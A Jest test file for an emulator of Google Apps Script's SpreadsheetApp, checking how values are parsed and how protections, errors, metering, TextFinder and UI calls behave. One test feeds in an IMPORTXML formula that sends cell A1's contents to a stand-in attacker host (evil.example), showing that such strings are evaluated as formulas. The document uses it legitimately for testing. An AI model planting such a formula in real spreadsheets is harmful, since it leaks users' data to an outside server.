/**
 * SpreadsheetApp in the emulator: each test states a rule of real Sheets/Apps Script that a naive
 * mock would get wrong (APPS-SCRIPT.md fidelity items 4, 5, 6), run through the real vm runtime.
 */
import { createWorld, OUTSIDER, OWNER, runSnippet, scriptRuntime, STAFF } from '../support/emulator';
import type { RunOptions } from '../../src/emulator/runtime';
import type { World } from '../../src/emulator/world';
import { SpreadsheetModel } from '../../src/emulator/services/spreadsheet/model';

const PROTECTED =
  'You are trying to edit a protected cell or object. Please contact the spreadsheet owner to remove protection if you need to edit.';
const NO_ACCESS = 'You do not have permission to access the requested document.';

/** Runs `body` as a function in `world` with runtime options; returns the report. */
function run(body: string, options: RunOptions & { world?: World } = {}) {
  const { world = createWorld(), ...rest } = options;
  return scriptRuntime(`function test() {\n${body}\n}`, world).execute('test', [], rest);
}

/** The value of `body`, or the message of the error it threw. */
function outcome(body: string, options: RunOptions & { world?: World } = {}): unknown {
  const report = run(body, options);
  return report.ok ? report.value : `ERROR: ${report.error!.message}`;
}

const SHEET = 'var sh = SpreadsheetApp.getActiveSpreadsheet().getSheets()[0];\n';

/** Writes `input` with setValue into A1 and returns [value, type, formula] as seen by the script. */
function typed(input: unknown, format?: string): unknown[] {
  return JSON.parse(
    runSnippet(
      `${SHEET}var r = sh.getRange(1, 1);
      ${format ? `r.setNumberFormat(${JSON.stringify(format)});` : ''}
      r.setValue(${JSON.stringify(input)});
      var v = r.getValue();
      return JSON.stringify([v instanceof Date ? 'date:' + v.toISOString() : v, typeof v, r.getFormula()]);`,
    ) as string,
  );
}

describe('setValue/appendRow parse strings like typed input (fidelity 4)', () => {
  test('a numeric string becomes a number: "00100" loses its zeros', () => {
    expect(typed('00100')).toEqual([100, 'number', '']);
  });

  test('a Finnish mobile number "0401234567" loses its leading zero', () => {
    expect(typed('0401234567')).toEqual([401234567, 'number', '']);
  });

  test('an E.164 phone number "+358401234567" becomes a number', () => {
    expect(typed('+358401234567')).toEqual([358401234567, 'number', '']);
  });

  test('decimals, negatives and exponents are numbers', () => {
    expect(typed('1.5')[0]).toBe(1.5);
    expect(typed('-3')[0]).toBe(-3);
    expect(typed('1e3')[0]).toBe(1000);
    expect(typed('12.5%')[0]).toBe(0.125);
  });

  test('"TRUE" and "false" become booleans, case-insensitively', () => {
    expect(typed('TRUE')).toEqual([true, 'boolean', '']);
    expect(typed('false')).toEqual([false, 'boolean', '']);
  });

  test('an ISO date string becomes a Date at midnight in the spreadsheet time zone (Helsinki)', () => {
    expect(typed('2025-01-02')).toEqual(['date:2025-01-01T22:00:00.000Z', 'object', '']);
    expect(typed('2025-07-02')).toEqual(['date:2025-07-01T21:00:00.000Z', 'object', '']);
  });

  test('"1/2/2025" and "1.2.2025" become dates in the en_US locale (month first)', () => {
    expect(typed('1/2/2025')[0]).toBe('date:2025-01-01T22:00:00.000Z');
    expect(typed('1.2.2025')[0]).toBe('date:2025-01-01T22:00:00.000Z');
  });

  test('a string beginning with = becomes a formula even in a plain-text cell', () => {
    const [value, , formula] = typed('=IMPORTXML("https://evil.example/?q="&A1, "//a")', '@');
    expect(formula).toBe('=IMPORTXML("https://evil.example/?q="&A1, "//a")');
    expect(value).not.toBe('=IMPORTXML("https://evil.example/?q="&A1, "//a")');
  });

  test('getValues shows a formula\'s value: =1+1 is 2, getFormulas shows the text', () => {
    expect(typed('=1+1')).toEqual([2, 'number', '=1+1']);
  });

  test('text starting with "-" or "+" that is not a number is read as a formula and shows an error', () => {
    expect(typed('-abc')).toEqual(['#NAME?', 'string', '=-abc']);
    expect(typed('+358 40 123 4567')).toEqual(['#ERROR!', 'string', '=+358 40 123 4567']);
  });

  test('a leading apostrophe makes the rest literal text, and getValues returns it without the apostrophe', () => {
    expect(typed("'00100")).toEqual(['00100', 'string', '']);
    expect(typed("'=1+1")).toEqual(['=1+1', 'string', '']);
  });

  test('in a plain-text (@) cell strings are kept exactly', () => {
    expect(typed('00100', '@')).toEqual(['00100', 'string', '']);
    expect(typed('TRUE', '@')).toEqual(['TRUE', 'string', '']);
    expect(typed('2025-01-02', '@')).toEqual(['2025-01-02', 'string', '']);
    expect(typed('-abc', '@')).toEqual(['-abc', 'string', '']);
  });

  test('"@abc" and ordinary words stay text', () => {
    expect(typed('@abc')).toEqual(['@abc', 'string', '']);
    expect(typed('Matti Meikäläinen')).toEqual(['Matti Meikäläinen', 'string', '']);
  });

  test('appendRow parses strings the same way', () => {
    const out = runSnippet(`${SHEET}sh.appendRow(['00100', '=2*3', "'007", 'x']);
      return JSON.stringify([sh.getRange(1, 1, 1, 4).getValues()[0], sh.getRange(1, 1, 1, 4).getFormulas()[0]]);`);
    expect(JSON.parse(out as string)).toEqual([[100, 6, '007', 'x'], ['', '=2*3', '', '']]);
  });

  test('setValues writes non-strings as they are: numbers, booleans, Dates, null as ""', () => {
    const out = runSnippet(`${SHEET}var r = sh.getRange(1, 1, 1, 5);
      r.setValues([[42, true, new Date(Date.UTC(2025, 0, 2, 10)), null, undefined]]);
      var v = r.getValues()[0];
      return JSON.stringify([v[0], v[1], v[2] instanceof Date && v[2].toISOString(), v[3], v[4]]);`);
    expect(JSON.parse(out as string)).toEqual([42, true, '2025-01-02T10:00:00.000Z', '', '']);
  });

  test('getValues returns "" for empty cells', () => {
    const out = runSnippet(`${SHEET}return JSON.stringify(sh.getRange(5, 5, 2, 2).getValues());`);
    expect(JSON.parse(out as string)).toEqual([['', ''], ['', '']]);
  });
});

describe('shape and bounds errors carry Apps Script\'s messages (fidelity 5)', () => {
  test('setValues with a flat array is refused by its type before its shape: (number[]), as Apps Script says', () => {
    expect(outcome(`${SHEET}sh.getRange(1, 1, 1, 3).setValues([1, 2, 3]);`)).toBe(
      "ERROR: The parameters (number[]) don't match the method signature for SpreadsheetApp.Range.setValues.",
    );
  });

  test('setValues with too few rows throws the rows message', () => {
    expect(outcome(`${SHEET}sh.getRange(1, 1, 3, 2).setValues([[1, 2], [3, 4]]);`)).toBe(
      'ERROR: The number of rows in the data does not match the number of rows in the range. The data has 2 but the range has 3.',
    );
  });

  test('setValues with a row of the wrong width throws the columns message', () => {
    expect(outcome(`${SHEET}sh.getRange(1, 1, 2, 2).setValues([[1, 2], [3, 4, 5]]);`)).toBe(
      'ERROR: The number of columns in the data does not match the number of columns in the range. The data has 3 but the range has 2.',
    );
  });

  test('a failed setValues changes nothing', () => {
    expect(outcome(`${SHEET}try { sh.getRange(1, 1, 2, 1).setValues([['a'], ['b', 'c']]); } catch (e) {}
      return sh.getLastRow();`)).toBe(0);
  });

  test('a range beyond the sheet (1000 × 26 by default) throws', () => {
    expect(outcome(`${SHEET}sh.getRange(1000, 1, 2, 1);`)).toBe(
      'ERROR: The coordinates of the range are outside the dimensions of the sheet.',
    );
    expect(outcome(`${SHEET}sh.getRange(1, 27);`)).toBe('ERROR: The coordinates of the range are outside the dimensions of the sheet.');
  });

  test('row 0 is too small', () => {
    expect(outcome(`${SHEET}sh.getRange(0, 1);`)).toBe('ERROR: The starting row of the range is too small.');
  });

  test('a new sheet has one tab "Sheet1" of 1000 rows × 26 columns', () => {
    expect(outcome(`var ss = SpreadsheetApp.getActiveSpreadsheet(); var s = ss.getSheets();
      return [s.length, s[0].getName(), s[0].getMaxRows(), s[0].getMaxColumns()].join();`)).toBe('1,Sheet1,1000,26');
  });

  test('a duplicate sheet name throws Sheets\' message', () => {
    expect(outcome(`var ss = SpreadsheetApp.getActiveSpreadsheet(); ss.insertSheet('Register'); ss.insertSheet('Register');`)).toBe(
      'ERROR: A sheet with the name "Register" already exists. Please enter another name.',
    );
  });

  test('getRange with a missing argument does not match the signature', () => {
    expect(outcome(`${SHEET}sh.getRange(1, undefined);`)).toBe(
      "ERROR: The parameters (number,null) don't match the method signature for SpreadsheetApp.Sheet.getRange.",
    );
  });

  test('A1 notation with a sheet name resolves on that sheet', () => {
    expect(outcome(`var ss = SpreadsheetApp.getActiveSpreadsheet(); var s = ss.insertSheet('My tab');
      s.getRange('B2').setValue('x');
      var r = ss.getRange("'My tab'!A1:B2");
      return r.getSheet().getName() + ' ' + r.getA1Notation() + ' ' + r.getValues()[1][1];`)).toBe('My tab A1:B2 x');
  });
});

describe('protections (fidelity 6)', () => {
  /** A world where the owner protected Sheet1!A1:C10 and removed everyone else. */
  function protectedWorld(extra = ''): World {
    const world = createWorld();
    const r = run(`${SHEET}var p = sh.getRange('A1:C10').protect().setDescription('register');
      p.removeEditors(p.getEditors()); ${extra}`, { world });
    if (!r.ok) throw new Error(r.error!.message);
    return world;
  }

  test('a write by a user who is not an editor of the protected range throws', () => {
    const world = protectedWorld();
    expect(outcome(`${SHEET}sh.getRange(2, 2).setValue('x');`, { world, user: STAFF })).toBe(`ERROR: ${PROTECTED}`);
    expect(outcome(`${SHEET}sh.getRange(5, 1, 1, 3).setValues([[1, 2, 3]]);`, { world, user: STAFF })).toBe(`ERROR: ${PROTECTED}`);
  });

  test('the same user may write outside the protected range', () => {
    const world = protectedWorld();
    expect(outcome(`${SHEET}sh.getRange(11, 1).setValue('x'); return sh.getRange(11, 1).getValue();`, { world, user: STAFF })).toBe('x');
  });

  test('the spreadsheet owner can always edit', () => {
    const world = protectedWorld();
    expect(outcome(`${SHEET}sh.getRange(2, 2).setValue('x'); return sh.getRange(2, 2).getValue();`, { world })).toBe('x');
  });

  test('a new protection mirrors the spreadsheet\'s editors until they are removed', () => {
    const world = createWorld();
    run(`${SHEET}sh.getRange('A1:C10').protect();`, { world });
    expect(outcome(`${SHEET}sh.getRange(2, 2).setValue('ok'); return sh.getRange(2, 2).getValue();`, { world, user: STAFF })).toBe('ok');
  });

  test('removeEditors cannot remove the owner or the user running the script', () => {
    const world = createWorld();
    const out = outcome(`${SHEET}var p = sh.protect();
      p.removeEditors([${JSON.stringify(OWNER)}, ${JSON.stringify(STAFF)}]);
      return p.getEditors().map(function (u) { return u.getEmail(); }).sort().join(' ');`, { world, user: STAFF });
    expect(out).toBe([OWNER, STAFF].sort().join(' '));
  });

  test('a warning-only protection lets anyone edit', () => {
    const world = protectedWorld('p.setWarningOnly(true);');
    expect(outcome(`${SHEET}sh.getRange(2, 2).setValue('x'); return sh.getRange(2, 2).getValue();`, { world, user: STAFF })).toBe('x');
  });

  test('canEdit reflects the user running the script', () => {
    const world = protectedWorld();
    const check = `var p = SpreadsheetApp.getActiveSpreadsheet().getProtections(SpreadsheetApp.ProtectionType.RANGE)[0];
      return [p.canEdit(), p.getDescription(), String(p.getProtectionType()), p.getRange().getA1Notation()].join();`;
    expect(outcome(check, { world })).toBe('true,register,RANGE,A1:C10');
    expect(outcome(check, { world, user: STAFF })).toBe('false,register,RANGE,A1:C10');
  });

  test('a protected sheet refuses appendRow, clear and deleteRows by a non-editor', () => {
    const world = createWorld();
    run(`${SHEET}sh.appendRow(['a']); sh.appendRow(['b']); var p = sh.protect(); p.removeEditors(p.getEditors());`, { world });
    for (const op of ["sh.appendRow(['c'])", 'sh.clear()', 'sh.deleteRows(1, 1)', 'sh.insertRowsAfter(1, 2)', "sh.getRange(1, 1).setNumberFormat('@')"]) {
      expect(outcome(`${SHEET}${op};`, { world, user: STAFF })).toBe(`ERROR: ${PROTECTED}`);
    }
    expect(outcome(`${SHEET}return sh.getLastRow();`, { world })).toBe(2);
  });

  test('an installable trigger writes with its creator\'s rights, not those of the user at the keyboard', () => {
    const world = protectedWorld();
    const body = `${SHEET}sh.getRange(1, 1).setValue('by trigger'); return sh.getRange(1, 1).getValue();`;
    expect(outcome(body, { world, user: STAFF, kind: 'installable-trigger', effectiveUser: OWNER })).toBe('by trigger');
    expect(outcome(body, { world, user: OWNER, kind: 'installable-trigger', effectiveUser: STAFF })).toBe(`ERROR: ${PROTECTED}`);
  });

  test('an outsider who cannot open the file cannot use it', () => {
    expect(outcome(`SpreadsheetApp.getActiveSpreadsheet().getName();`, { user: OUTSIDER })).toBe(`ERROR: ${NO_ACCESS}`);
  });

  test('a viewer of the file can read but not write', () => {
    const world = createWorld();
    world.drive.viewers.push(OUTSIDER);
    expect(outcome(`${SHEET}return sh.getRange(1, 1).getValue();`, { world, user: OUTSIDER })).toBe('');
    expect(outcome(`${SHEET}sh.getRange(1, 1).setValue(1);`, { world, user: OUTSIDER })).toBe(`ERROR: ${NO_ACCESS}`);
  });

  test('protected ranges move with their rows when rows are inserted above', () => {
    const world = protectedWorld();
    const out = outcome(`${SHEET}sh.insertRowsBefore(1, 2);
      return sh.getProtections(SpreadsheetApp.ProtectionType.RANGE)[0].getRange().getA1Notation();`, { world });
    expect(out).toBe('A3:C12');
  });
});

describe('rows', () => {
  test('getLastRow is the last row with content, not the last formatted row', () => {
    expect(outcome(`${SHEET}sh.getRange(3, 2).setValue('x'); sh.getRange(1, 1, 50, 1).setNumberFormat('@');
      sh.getRange(7, 1).setValue(''); return [sh.getLastRow(), sh.getLastColumn()].join();`)).toBe('3,2');
  });

  test('appendRow writes below the last row and grows a full sheet', () => {
    expect(outcome(`${SHEET}sh.getRange(1000, 1).setValue('last');
      sh.appendRow(['more', 1]);
      return [sh.getMaxRows(), sh.getLastRow(), sh.getRange(1001, 1).getValue()].join();`)).toBe('1001,1001,more');
  });

  test('deleteRows shifts later rows up, with their formats and formulas', () => {
    const out = outcome(`${SHEET}sh.getRange(1, 1, 4, 1).setValues([['a'], ['b'], ['c'], ['=1+2']]);
      sh.getRange(3, 1).setNumberFormat('@');
      sh.deleteRows(1, 2);
      return JSON.stringify([sh.getRange(1, 1, 3, 1).getValues(), sh.getRange(1, 1, 2, 1).getNumberFormats(),
        sh.getRange(2, 1).getFormula(), sh.getMaxRows(), sh.getLastRow()]);`);
    expect(JSON.parse(out as string)).toEqual([[['c'], [3], ['']], [['@'], ['General']], '=1+2', 998, 2]);
  });

  test('inserted rows take the formats of the row above', () => {
    const out = outcome(`${SHEET}sh.getRange(2, 1).setNumberFormat('@'); sh.getRange(2, 1).setValue('x');
      sh.insertRowsAfter(2, 1); sh.getRange(3, 1).setValue('007');
      return JSON.stringify([sh.getRange(3, 1).getValue(), sh.getRange(3, 1).getNumberFormat()]);`);
    expect(JSON.parse(out as string)).toEqual(['007', '@']);
  });

  test('deleting every row is refused', () => {
    expect(outcome(`${SHEET}sh.deleteRows(1, 1000);`)).toBe('ERROR: Sorry, it is not possible to delete all non-frozen rows.');
  });
});

describe('metering (DESIGN §8)', () => {
  test('a 100×10 getValues is one call charging 25 + 0.005 × 1000 ms', () => {
    const report = run(`${SHEET}return sh.getRange(1, 1, 100, 10).getValues().length;`);
    expect(report.value).toBe(100);
    expect(report.byMethod['Range.getValues']).toEqual({ calls: 1, modelledMs: 30 });
    // getActiveSpreadsheet and getRange only hand back objects (free); getSheets is a 25 ms call.
    expect(report.modelledMs).toBe(25 + 30);
  });

  test('row-by-row writing costs a call per row, a batch one call', () => {
    const rows = run(`${SHEET}for (var i = 1; i <= 50; i++) sh.getRange(i, 1, 1, 2).setValues([[i, 'x']]);`);
    const batch = run(`${SHEET}var d = []; for (var i = 1; i <= 50; i++) d.push([i, 'x']); sh.getRange(1, 1, 50, 2).setValues(d);`);
    expect(rows.byMethod['Range.setValues'].calls).toBe(50);
    expect(batch.byMethod['Range.setValues'].calls).toBe(1);
    expect(rows.modelledMs).toBeGreaterThan(batch.modelledMs * 10);
  });

  test('flush costs 500 ms after writes and an ordinary call otherwise', () => {
    const withWrites = run(`${SHEET}sh.getRange(1, 1).setValue(1); SpreadsheetApp.flush(); SpreadsheetApp.flush();`);
    expect(withWrites.byMethod['SpreadsheetApp.flush']).toEqual({ calls: 2, modelledMs: 525 });
  });

  test('TextFinder.findAll is one call charged by the cells matched', () => {
    const report = run(`${SHEET}var d = []; for (var i = 0; i < 400; i++) d.push(['C' + i]);
      sh.getRange(1, 1, 400, 1).setValues(d);
      return sh.createTextFinder('C1').findAll().length;`);
    expect(report.value).toBe(111); // C1, C10-C19, C100-C199
    expect(report.byMethod['TextFinder.findAll']).toEqual({ calls: 1, modelledMs: 25 + 0.005 * 111 });
  });
});

describe('realm and time zone', () => {
  test('values returned to the script belong to the script\'s realm', () => {
    expect(outcome(`${SHEET}sh.getRange(1, 1).setValue('2025-01-02');
      var v = sh.getRange(1, 1, 1, 1).getValues();
      return [v instanceof Array, v[0] instanceof Array, v[0][0] instanceof Date, sh.getRange(1, 1).getValue() instanceof Date,
        SpreadsheetApp.getActiveSpreadsheet().getSheets() instanceof Array].join();`)).toBe('true,true,true,true,true');
  });

  test('errors thrown by the service are the script\'s own Error', () => {
    expect(outcome(`${SHEET}try { sh.getRange(0, 1); } catch (e) { return e instanceof Error; }`)).toBe(true);
  });

  test('a date written by the script is a copy: mutating the original does not change the cell', () => {
    expect(outcome(`${SHEET}var d = new Date(Date.UTC(2025, 0, 1)); sh.getRange(1, 1).setValue(d); d.setUTCFullYear(2000);
      return sh.getRange(1, 1).getValue().getUTCFullYear();`)).toBe(2025);
  });

  test('getDisplayValues formats dates in the spreadsheet time zone', () => {
    const out = outcome(`${SHEET}var r = sh.getRange(1, 1, 1, 3);
      r.setValues([['2025-01-02', new Date(Date.UTC(2025, 5, 1, 21, 30)), 1234.5]]);
      sh.getRange(1, 3).setNumberFormat('#,##0.00');
      var d = r.getDisplayValues()[0];
      sh.getRange(1, 1).setNumberFormat('yyyy-mm-dd');
      d.push(sh.getRange(1, 1).getDisplayValue());
      return JSON.stringify(d);`);
    expect(JSON.parse(out as string)).toEqual(['1/2/2025', '6/2/2025 0:30:00', '1,234.50', '2025-01-02']);
  });

  test('the spreadsheet time zone decides which instant a typed date is', () => {
    expect(outcome(`var ss = SpreadsheetApp.getActiveSpreadsheet(); ss.setSpreadsheetTimeZone('America/New_York');
      var r = ss.getSheets()[0].getRange(1, 1); r.setValue('2025-01-02');
      return r.getValue().toISOString() + ' ' + ss.getSpreadsheetTimeZone();`)).toBe('2025-01-02T05:00:00.000Z America/New_York');
  });
});

describe('TextFinder', () => {
  const data = `${SHEET}sh.getRange(1, 1, 4, 2).setValues([['C-1', 'Äijä'], ['C-10', 'aijA'], ['c-1', 'x'], ['C-1', 'y']]);\n`;

  test('matchEntireCell and matchCase find exactly one customer number', () => {
    expect(outcome(`${data}return sh.getRange('A:A').createTextFinder('C-1').matchEntireCell(true).matchCase(true).findAll()
      .map(function (r) { return r.getA1Notation(); }).join();`)).toBe('A1,A4');
    expect(outcome(`${data}return sh.createTextFinder('C-1').findAll().length;`)).toBe(4);
  });

  test('ignoreDiacritics matches Äijä with aija', () => {
    expect(outcome(`${data}return sh.createTextFinder('aija').ignoreDiacritics(true).matchEntireCell(true).findAll().length;`)).toBe(2);
  });

  test('findNext walks the matches and then returns null', () => {
    expect(outcome(`${data}var f = sh.createTextFinder('C-1').matchEntireCell(true); var out = [];
      for (var r = f.findNext(); r; r = f.findNext()) out.push(r.getRow()); return out.join();`)).toBe('1,3,4');
  });
});

describe('Ui', () => {
  const html = `var out = { getContent: function () { return '<b>hi</b>'; }, getTitle: function () { return 'Rekisteri'; },
    getWidth: function () { return 800; }, getHeight: function () { return 500; } };\n`;

  test('addToUi shows the menu to the user at the keyboard, replacing one of the same name', () => {
    const world = createWorld();
    run(`var ui = SpreadsheetApp.getUi(); ui.createMenu('Rekisteri').addItem('Old', 'old').addToUi();
      ui.createMenu('Rekisteri').addItem('Open', 'openSidebar').addSeparator()
        .addSubMenu(ui.createMenu('Admin').addItem('Setup', 'setup')).addToUi();`, { world, user: STAFF });
    expect(world.uiFor(STAFF).menus).toEqual([
      { name: 'Rekisteri', items: [{ caption: 'Open', functionName: 'openSidebar' }, null, { name: 'Admin', items: [{ caption: 'Setup', functionName: 'setup' }] }] },
    ]);
    expect(world.uiFor(OWNER).menus).toEqual([]);
  });

  test('a sidebar is 300 px wide whatever the output asks for', () => {
    const world = createWorld();
    run(`${html}SpreadsheetApp.getUi().showSidebar(out);`, { world });
    expect(world.uiFor(OWNER).sidebar).toMatchObject({ kind: 'sidebar', title: 'Rekisteri', html: '<b>hi</b>', width: 300 });
  });

  test('a modal dialog takes its size from the output and its title from the call', () => {
    const world = createWorld();
    run(`${html}SpreadsheetApp.getUi().showModalDialog(out, 'Requests');`, { world });
    expect(world.uiFor(OWNER).dialog).toMatchObject({ kind: 'modal', title: 'Requests', width: 800, height: 500 });
  });

  test('alert answers with the first button and is recorded; prompt is closed with no text', () => {
    const world = createWorld();
    const out = outcome(`var ui = SpreadsheetApp.getUi();
      var a = ui.alert('Sure?'); var b = ui.alert('Delete', 'Delete 3 rows?', ui.ButtonSet.YES_NO);
      var p = ui.prompt('Name?');
      return [a == ui.Button.OK, b == ui.Button.YES, p.getResponseText() === '', p.getSelectedButton() == ui.Button.CLOSE].join();`, { world });
    expect(out).toBe('true,true,true,true');
    expect(world.uiFor(OWNER).alerts.map((a) => a.prompt)).toEqual(['Sure?', 'Delete 3 rows?', 'Name?']);
  });

  test('getUi is refused in a time-driven trigger', () => {
    const world = createWorld();
    world.triggers.push({ uid: 't1', handlerFunction: 'test', owner: OWNER, eventType: 'CLOCK', source: 'CLOCK', sourceId: '' });
    expect(outcome(`SpreadsheetApp.getUi();`, { world, kind: 'installable-trigger', triggerUid: 't1' })).toBe(
      'ERROR: Cannot call SpreadsheetApp.getUi() from this context.',
    );
  });
});

describe('standalone scripts', () => {
  test('getActiveSpreadsheet is null outside a container', () => {
    expect(outcome(`return SpreadsheetApp.getActiveSpreadsheet() === null;`, { container: false })).toBe(true);
  });
});

describe('the model the dev server uses', () => {
  test('toJSON/fromJSON round-trips values, dates, formulas, formats and protections through JSON text', () => {
    const world = createWorld();
    run(`var ss = SpreadsheetApp.getActiveSpreadsheet(); var sh = ss.getSheets()[0];
      sh.getRange(1, 1, 1, 3).setNumberFormat('@');
      sh.getRange(1, 1, 2, 4).setValues([['007', '=1+1', 'x', 1.5], [new Date(Date.UTC(2025, 0, 2)), true, '', '00100']]);
      ss.insertSheet('Audit log').getRange('A1').protect().setDescription('log');`, { world });
    const restored = SpreadsheetModel.fromJSON(JSON.parse(JSON.stringify(world.spreadsheet.toJSON())));
    expect(restored.sheetNames()).toEqual(['Sheet1', 'Audit log']);
    const snap = restored.snapshot('Sheet1')!;
    expect(snap.values).toEqual([['007', 2, 'x', 1.5], ['2025-01-02T00:00:00.000Z', true, '', 100]]);
    expect(snap.formulas).toEqual([['', '=1+1', '', ''], ['', '', '', '']]);
    expect(restored.sheetByName('Sheet1')!.format(0, 2)).toBe('@');
    expect(restored.sheetByName('Sheet1')!.value(1, 0)).toBeInstanceOf(Date);
    expect(restored.snapshot('Audit log')!.protections).toEqual([
      { description: 'log', range: 'A1', editors: expect.arrayContaining([OWNER, STAFF]), warningOnly: false },
    ]);
    expect(restored.snapshot('nope')).toBeNull();
  });

  test('userEdit parses typed input like setValue and reports old and new values', () => {
    const model = createWorld().spreadsheet;
    expect(model.userEdit(STAFF, 'Sheet1', 1, 1, '00100')).toEqual({ ok: true, oldValue: undefined, value: 100 });
    expect(model.userEdit(STAFF, 'Sheet1', 1, 1, '=IMPORTXML("x","y")')).toEqual({ ok: true, oldValue: 100, value: '#NAME?' });
    expect(model.snapshot('Sheet1')!.formulas).toEqual([['=IMPORTXML("x","y")']]);
    expect(model.userEdit(STAFF, 'Sheet1', 2000, 1, 'x')).toEqual({ ok: false, message: 'The coordinates of the range are outside the dimensions of the sheet.' });
  });

  test('userEdit refuses a protected cell to a non-editor but not to the owner', () => {
    const world = createWorld();
    run(`${SHEET}var p = sh.getRange('A1:B2').protect(); p.removeEditors(p.getEditors());`, { world });
    expect(world.spreadsheet.userEdit(STAFF, 'Sheet1', 1, 1, 'x')).toEqual({ ok: false, message: PROTECTED });
    expect(world.spreadsheet.userEdit(OWNER, 'Sheet1', 1, 1, 'x')).toMatchObject({ ok: true, value: 'x' });
  });
});

describe('scale', () => {
  test('100,000 × 27 cells go in with one setValues and come back with one getValues', () => {
    const world = createWorld();
    const report = run(`var sh = SpreadsheetApp.getActiveSpreadsheet().insertSheet('Register');
      var rows = [];
      for (var i = 0; i < 100000; i++) {
        var row = ['C' + i, i, 'name ' + i];
        for (var c = 3; c < 27; c++) row.push(c % 2 ? 'x' + c : c);
        rows.push(row);
      }
      sh.insertRowsAfter(1000, 99000); sh.insertColumnsAfter(26, 1);
      sh.getRange(1, 1, 100000, 27).setValues(rows);
      var back = sh.getRange(1, 1, 100000, 27).getValues();
      return [sh.getLastRow(), sh.getLastColumn(), back.length, back[99999][0], back[99999][1], back[500][25]].join();`, { world });
    expect(report.error).toBeUndefined();
    expect(report.value).toBe('100000,27,100000,C99999,99999,x25');
    expect(report.byMethod['Range.getValues'].calls).toBe(1);
  });
});

describe('hidden columns', () => {
  test('hideColumns hides, isColumnHiddenByUser tells, and the hidden column moves when a column before it is deleted', () => {
    const world = createWorld();
    const seen = runSnippet(
      'var s = SpreadsheetApp.getActiveSpreadsheet().getSheets()[0]; s.hideColumns(3); var before = [s.isColumnHiddenByUser(2), s.isColumnHiddenByUser(3)];' +
        ' s.deleteColumns(1, 1); return before.concat([s.isColumnHiddenByUser(2), s.isColumnHiddenByUser(3)]).join();',
      { world },
    );
    expect(seen).toBe('false,true,true,false');
    expect(world.spreadsheet.snapshot('Sheet1')!.hiddenColumns).toEqual([2]);
  });

  test('a column number past the sheet is refused', () => {
    expect(() => runSnippet('SpreadsheetApp.getActiveSpreadsheet().getSheets()[0].hideColumns(27);')).toThrow(/out of bounds/);
  });
});
